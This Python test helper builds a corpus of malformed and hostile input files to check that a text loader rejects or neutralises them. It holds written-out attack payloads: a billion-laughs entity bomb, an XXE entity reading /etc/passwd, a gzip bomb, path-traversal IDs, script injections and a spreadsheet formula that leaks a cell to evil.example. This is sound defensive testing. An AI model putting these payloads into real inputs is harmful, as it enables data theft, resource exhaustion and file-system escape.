"""A torture corpus: real text in broken, hostile and odd containers, written into a folder.

Every case names the file it writes, the reliability kind it counts under, how many documents
it should give and what its rows of `rejected` must say. Nothing here is committed as data: the
files (one is 50 MB, one inflates to 2 GiB) are made from the reference article and
`../shared/data` each time the tests need them.

Example::

    cases = build_corpus(tmp_path / "torture", reference_raw, base_url)
    docs, rejected = load_documents([tmp_path / "torture"], config)
    for case in cases:
        assert case.accounted(docs, rejected)
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd

from tests.conftest import SHARED

MB = 1_000_000
BOMB_MEMBER_BYTES = 16 * 2**20  # one gzip member of the bomb inflates to 16 MiB ...
BOMB_MEMBERS = 128  # ... and the file holds 128 of them: 2 GiB from about 2 MB on disk
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
HOSTILE_IDS = ("../../../../tmp/escaped", "/etc/passwd", "nul\x00byte", "x" * 5000)


@dataclass(frozen=True)
class Case:
    """One input of the corpus and what must become of it.

    Attributes:
        name: Path of the file relative to the corpus folder (as `source` shows it).
        kind: Reliability kind, e.g. ``input:mis-encoded``.
        documents: Documents the file must give (rows of `documents` whose source is the file
            or one of its records). For a URL list, documents fetched from its URLs.
        reasons: Regular expressions; each must match the reason of one of its `rejected` rows.
        urls: For a URL list, the URLs it lists (each must be a document or rejected).
        forbidden: Strings that must not appear in the raw text of its documents (an expanded
            entity, a local file read through XXE).
    """

    name: str
    kind: str
    documents: int
    reasons: tuple[str, ...] = ()
    urls: tuple[str, ...] = field(default=())
    forbidden: tuple[str, ...] = field(default=())

    @property
    def source(self) -> str:
        """The name as `source` shows it: bytes that are not UTF-8 as \\x escapes."""
        return self.name.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")

    def rows(
        self, root: str, documents: pd.DataFrame, rejected: pd.DataFrame
    ) -> tuple[pd.DataFrame, pd.DataFrame]:
        """The rows of `documents` and `rejected` that come from this case's file."""
        if self.urls:
            return (
                documents[documents["source"].isin(self.urls)],
                rejected[rejected["input"].isin(self.urls)],
            )
        key = f"{root}/{self.source}"

        def mine(values: pd.Series) -> pd.Series:
            return values.map(lambda v: v == key or v.startswith((f"{key}#", f"{key}:")))

        return documents[mine(documents["source"])], rejected[mine(rejected["input"])]

    def accounted(self, root: str, documents: pd.DataFrame, rejected: pd.DataFrame) -> bool:
        """Whether the file (each of its URLs for a URL list) shows up in either table."""
        docs, rej = self.rows(root, documents, rejected)
        if self.urls:
            seen = set(docs["source"]) | set(rej["input"])
            return all(url in seen for url in self.urls)
        return len(docs) + len(rej) > 0

    def problems(self, root: str, documents: pd.DataFrame, rejected: pd.DataFrame) -> list[str]:
        """What differs from the expectation, as readable lines (empty when all is as expected)."""
        docs, rej = self.rows(root, documents, rejected)
        out = []
        if not self.accounted(root, documents, rejected):
            out.append(f"{self.source}: neither in documents nor in rejected")
        if len(docs) != self.documents:
            out.append(f"{self.source}: {len(docs)} documents, expected {self.documents}")
        reasons = list(rej["reason"])
        for pattern in self.reasons:
            if not any(re.search(pattern, r) for r in reasons):
                out.append(f"{self.source}: no rejection matching {pattern!r} in {reasons}")
        for text in self.forbidden:
            if docs["raw_text"].str.contains(text, regex=False).any():
                out.append(f"{self.source}: a document contains {text!r}")
        return out


# ---------------------------------------------------------------- real text


def _paragraphs(reference: str) -> list[str]:
    """The longer paragraphs of the reference article (real prose, no boilerplate)."""
    return [p.strip() for p in reference.split("\n") if len(p.split()) > 25]


def _fakehealth_rows(n: int) -> list[dict]:
    """The first `n` FakeHealth press releases with more than 100 words."""
    path = SHARED / "fakehealth" / "health_release.jsonl.gz"
    rows = []
    with gzip.open(path, "rt", encoding="utf-8") as fh:
        for line in fh:
            row = json.loads(line)
            if len(row.get("text", "").split()) > 100:
                rows.append(row)
            if len(rows) == n:
                break
    return rows


def _counsel_rows(n: int) -> list[dict]:
    """The first `n` counsel-chat answers long enough to pass screening."""
    with (SHARED / "counsel-chat" / "counsel_chat.csv").open(encoding="utf-8", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if len(r["answerText"].split()) > 40]
    return rows[:n]


def _german_text() -> str:
    """German explanations from HealthFC: a real article-length text in another language."""
    with (SHARED / "healthfc" / "healthfc.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))[:6]
    body = "\n\n".join(f"{r['de_explanation']}\n{r['de_top_sentences']}" for r in rows)
    return f"{rows[0]['de_title'] or 'Gesundheit'}\n\n{body}"


def _html(title: str, paragraphs: list[str]) -> str:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (
        f"<!DOCTYPE html><html><head><title>{title}</title></head>"
        f"<body><article><h1>{title}</h1>{body}</article></body></html>"
    )


def _csv_bytes(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


# ---------------------------------------------------------------- the corpus


def build_corpus(folder: Path, reference: str, base_url: str | None = None) -> list[Case]:
    """Write the torture corpus into `folder` and return its cases.

    Args:
        folder: An empty or absent folder.
        reference: The reference article (a plain-text dump).
        base_url: A local server serving `server_routes(reference)`; without it the URL list
            case is left out.
    """
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    paras = _paragraphs(reference)
    title = reference.splitlines()[0]
    ascii_ref = reference.replace("’", "'").replace("“", '"').replace("”", '"')

    def add(case: Case, writer: Callable[[Path], object]) -> None:
        writer(folder / case.name)
        cases.append(case)

    def data(payload: bytes) -> Callable[[Path], object]:
        return lambda path: path.write_bytes(payload)

    # 1. Truncated: a UTF-8 file cut inside a character, half an HTML page, a cut gzip stream.
    raw = reference.encode("utf-8")
    cut = raw.index("’".encode()) + 1  # inside the three bytes of a curly quote
    add(Case("truncated-mid-character.txt", "input:truncated", 1), data(raw[:cut]))
    page = _html(title, paras).encode("utf-8")
    add(Case("truncated.html", "input:truncated", 1), data(page[: len(page) * 2 // 3]))
    lines = "".join(json.dumps(r) + "\n" for r in _fakehealth_rows(3)).encode("utf-8")
    packed = gzip.compress(lines)
    cut_gz = packed[: len(packed) * 3 // 4]
    # zlib, independent of the loader, says how many whole lines come before the cut.
    whole_lines = zlib.decompressobj(wbits=31).decompress(cut_gz).count(b"\n")
    add(
        Case(
            "truncated.jsonl.gz",
            "input:truncated",
            whole_lines,
            (r"gzip data is cut short or corrupt", rf"^line {whole_lines + 1}: invalid JSON"),
        ),
        data(cut_gz),
    )

    # 2. Mis-encoded: cp1252, latin-1, UTF-16 with and without a BOM.
    add(Case("cp1252.txt", "input:mis-encoded", 1), data(reference.encode("cp1252", "replace")))
    add(
        Case("latin-1.txt", "input:mis-encoded", 1),
        data(("Café, naïveté\n" + ascii_ref).encode("latin-1", "replace")),
    )
    add(Case("utf-16-le-bom.txt", "input:mis-encoded", 1), data(reference.encode("utf-16")))
    add(
        Case("utf-16-be-bom.jsonl", "input:mis-encoded", 3),
        data(b"\xfe\xff" + lines.decode("utf-8").encode("utf-16-be")),
    )
    add(Case("utf-16-no-bom.txt", "input:mis-encoded", 1), data(reference.encode("utf-16-le")))

    # 3. NUL bytes: scattered through real text (loads), or a file that is mostly NULs.
    nul_ridden = b"\x00".join(raw[i : i + 400] for i in range(0, len(raw), 400))
    add(Case("nul-ridden.txt", "input:nul", 1), data(nul_ridden))
    add(
        Case("nul-flood.txt", "input:nul", 0, (r"binary content",)),
        data(b"\x00" * 20_000 + raw[:2000]),
    )

    # 4. HTML: 5,000 levels deep, no body, 50 MB, a gzip bomb, entity payloads.
    deep = "<div>" * 5000 + "".join(f"<p>{p}</p>" for p in paras) + "</div>" * 5000
    add(
        Case("deeply-nested.html", "input:html", 1),
        data(f"<html><head><title>{title}</title></head><body>{deep}</body></html>".encode()),
    )
    add(
        Case("no-body.html", "input:html", 0, (r"no extractable main text",)),
        data(f"<html><head><title>{title}</title><meta charset=utf-8></head></html>".encode()),
    )

    def fifty_mb(path: Path) -> None:
        block = "".join(f"<p>{p}</p>\n" for p in paras).encode("utf-8")
        with path.open("wb") as fh:
            fh.write(f"<html><head><title>{title}</title></head><body>".encode())
            for _ in range(50 * MB // len(block) + 1):
                fh.write(block)
            fh.write(b"</body></html>")

    add(Case("fifty-mb.html", "input:oversize", 0, (r"over load\.max_file_bytes",)), fifty_mb)
    member = gzip.compress(b"<p>" + b"a" * BOMB_MEMBER_BYTES, compresslevel=9)
    add(
        Case("bomb.html.gz", "input:gzip-bomb", 0, (r"decompresses to over",)),
        data(member * BOMB_MEMBERS),
    )
    laughs = "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )  # lol9 would be a billion "lol"s
    add(
        Case("billion-laughs.html", "input:xml-entities", 1, forbidden=("lollol",)),
        data(
            f'<!DOCTYPE html [<!ENTITY lol0 "lol">{laughs}]><html><head><title>{title}</title>'
            f"</head><body><article><p>&lol9;</p>{''.join(f'<p>{p}</p>' for p in paras[:6])}"
            "</article></body></html>".encode()
        ),
    )
    add(
        Case("external-entity.html", "input:xml-entities", 1, forbidden=("root:",)),
        data(
            '<!DOCTYPE html [<!ENTITY secret SYSTEM "file:///etc/passwd">]><html><head>'
            f"<title>{title}</title></head><body><article><p>&secret;</p>"
            f"{''.join(f'<p>{p}</p>' for p in paras[6:12])}</article></body></html>".encode()
        ),
    )

    # 5. JSONL with broken lines: each is rejected by line number, the rest loads.
    good = _fakehealth_rows(4)
    nested = "[" * 100_000 + "]" * 100_000
    jsonl = [
        json.dumps(good[0]).encode(),
        json.dumps(good[1])[:300].encode(),  # cut mid-record
        b"[1, 2, 3]",
        nested.encode(),
        b"",
        json.dumps({**good[2], "title": "Caf\u00e9 \u201cquotes\u201d"}, ensure_ascii=False).encode(
            "cp1252"
        ),  # one line in another encoding: the others stay UTF-8
        b'{"id": "null-byte", "text": "x\x00y"}',
        json.dumps({"id": good[3]["id"], "title": "no text"}).encode(),
        json.dumps({**good[3], "id": good[0]["id"]}).encode(),  # a duplicate ID
        b'{"id": "huge-number", "text": ' + b"9" * 5000 + b"}",  # over int's digit limit
    ]
    add(
        Case(
            "broken-lines.jsonl",
            "input:jsonl",
            3,
            (
                r"^line 2: invalid JSON",
                r"^line 3: not a JSON object",
                r"^line 4: .*nested too deeply",
                r"^line 7: binary content",
                r"^line 8: no text",
                r"^line 10: invalid JSON \(Exceeds the limit",
            ),
        ),
        data(b"\n".join(jsonl)),
    )
    add(Case("blank-lines.jsonl", "input:jsonl", 0, (r"no records",)), data(b"\n \n\n"))

    # 6. CSV: no text column, header only, ragged rows, an answer longer than csv's field limit.
    chat = _counsel_rows(4)
    add(
        Case("missing-text-column.csv", "input:csv", 0, (r"CSV has no text column",)),
        data(
            _csv_bytes(
                ["questionID", "questionTitle"],
                [[r["questionID"], r["questionTitle"]] for r in chat],
            )
        ),
    )
    add(
        Case("header-only.csv", "input:csv", 0, (r"no records",)),
        data(_csv_bytes(["id", "title", "text"], [])),
    )
    ragged = _csv_bytes(
        ["id", "questionTitle", "answerText"],
        [[f"r{i}", r["questionTitle"], r["answerText"]] for i, r in enumerate(chat)],
    )
    ragged_lines = ragged.decode().splitlines(keepends=True)
    ragged_lines[2] = "r1-short,A question whose answer is missing\r\n"
    ragged_lines[3] = ragged_lines[3].rstrip("\r\n") + ",an extra cell,and another\r\n"
    add(
        Case("ragged-rows.csv", "input:csv", 3, (r"no text in any of the columns",)),
        data("".join(ragged_lines).encode()),
    )
    long_answer = "\n".join(paras * 12)  # over csv's default 131,072-character field limit
    add(
        Case("long-field.csv", "input:csv", 1),
        data(_csv_bytes(["id", "title", "text"], [["long", title, long_answer]])),
    )

    # 7. Duplicate IDs: two rows with the same id, and a literal ID equal to a generated key.
    add(
        Case("duplicate-ids.csv", "input:duplicate-ids", 3),
        data(
            _csv_bytes(
                ["id", "questionTitle", "answerText"],
                [
                    ["7", chat[0]["questionTitle"], chat[0]["answerText"]],
                    ["7@row3", chat[1]["questionTitle"], chat[1]["answerText"]],
                    ["7", chat[2]["questionTitle"], chat[2]["answerText"]],
                ],
            )
        ),
    )

    # 8. Another language, and an article that is nothing but boilerplate.
    add(
        Case("german.txt", "input:language", 1, (r"non-English text",)),
        data(_german_text().encode("utf-8")),
    )
    boilerplate = "\n".join(
        [
            "Skip to content",
            "Menu",
            title,
            "— Share —",
            "Related: 5 Signs Of Emotional Neglect",
            "Leave a Reply",
            "Em Avatar",
            "Up Next",
            "Repetition Compulsion",
            "Toxic Shame",
        ]
    )
    add(
        Case(
            "only-boilerplate.txt",
            "input:boilerplate",
            0,
            (r"^empty after cleaning",),
        ),
        data(boilerplate.encode("utf-8")),
    )

    # 9. Text whose one paragraph is longer than spaCy reads (checked before segmentation).
    add(
        Case("one-huge-paragraph.txt", "input:oversize", 0, (r"paragraph of \d+ characters",)),
        data((title + "\n" + " ".join(paras * 40)).encode("utf-8")),
    )

    # 10. Paths and files that are not plain files.
    add(Case("empty.txt", "input:not-text", 0, (r"empty file",)), data(b""))
    add(
        Case("image.txt", "input:not-text", 0, (r"binary content",)),
        data(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4),
    )
    add(
        Case("notes.docx", "input:not-text", 0, (r"unsupported file type \.docx",)),
        data(b"PK\x03\x04"),
    )
    add(Case("pipe.txt", "input:not-a-file", 0, (r"not a regular file",)), os.mkfifo)
    add(
        Case("dangling-link.txt", "input:not-a-file", 0, (r"broken symbolic link",)),
        lambda path: path.symlink_to(folder / "no-such-file.txt"),
    )
    outside = folder.parent / "outside-secret.txt"
    outside.write_text(reference, encoding="utf-8")
    add(
        Case("link-outside.txt", "input:path", 0, (r"symbolic link to outside the input folder",)),
        lambda path: path.symlink_to(outside),
    )
    long_name = "l" * 240 + ".txt"
    add(Case(long_name, "input:path", 1), data(raw))
    odd_name = os.fsdecode(b"caf\xe9-latin1-name.txt")  # not valid UTF-8 as a file name
    add(Case(odd_name, "input:path", 1), data(raw))

    # 11. Hostile IDs and titles that must never become paths.
    # Dates out of any calendar's range and a URL urllib cannot parse must not cost a record;
    # a title of a million characters must not reach spaCy whole.
    odd_values = [
        {"publish_date": "inf", "url": "http://[broken"},
        {"publish_date": 1e300, "url": "file:///etc/passwd"},
        {"publish_date": -1e20, "title": "T" * 1_200_000},
        {"publish_date": "2019-01-01", "title": FORMULA_TITLE, "url": "javascript:alert(1)"},
    ]
    hostile = [
        {"id": hid, "title": f"<script>alert({i})</script>{hid}", "text": p, **odd}
        for i, (hid, p, odd) in enumerate(zip(HOSTILE_IDS, paras[1:], odd_values))
    ]
    add(
        Case("hostile-ids.jsonl", "input:path", len(hostile)),
        data("\n".join(json.dumps(r) for r in hostile).encode()),
    )

    # 12. A URL list whose sitemap and feed carry entity payloads, and one good article.
    if base_url is not None:
        urls = (f"{base_url}/laughs.xml", f"{base_url}/xxe.xml", f"{base_url}/article")
        add(
            Case(
                "urls.txt",
                "input:xml-entities",
                1,
                (r"unsafe XML refused", r"unsafe XML refused"),
                urls=urls,
            ),
            data("\n".join(urls).encode()),
        )
    return cases


def server_routes(reference: str) -> dict[str, object]:
    """What the local server serves for the URL list case (see tests/webserver.py)."""
    from webserver import BILLION_LAUGHS, EXTERNAL_ENTITY, Reply, html_page

    paras = _paragraphs(reference)
    return {
        "/laughs.xml": Reply(BILLION_LAUGHS, content_type="application/xml"),
        "/xxe.xml": Reply(EXTERNAL_ENTITY, content_type="application/xml"),
        "/article": html_page("Healing attachment trauma", "\n\n".join(paras[3:9])),
    }
